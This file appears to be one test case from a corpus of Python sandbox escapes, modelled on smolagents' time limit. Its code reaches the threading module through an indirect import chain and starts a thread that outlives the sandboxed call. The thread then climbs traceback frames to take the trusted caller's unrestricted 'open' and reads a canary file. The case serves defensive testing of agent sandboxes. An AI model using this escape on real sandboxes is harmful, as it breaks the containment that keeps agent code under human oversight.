# id: background-thread
# family: lifecycle
# kind: escape
# invariant: D, E, F
# origin: smolagents' documentation of its time limit
# technique: a thread goes on with full access when the call that started it is over
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, seccomp
# fix: structural
# alive-when: canary

import dataclasses
import time


def later():
    time.sleep(0.05)
    try:
        raise LookupError
    except LookupError as error:
        trusted = error.__traceback__.tb_frame.f_back
    print(trusted.f_builtins["open"]("canary.txt").read())


threading = dataclasses.inspect.importlib.import_module("threading")
threading.Thread(target=later).start()
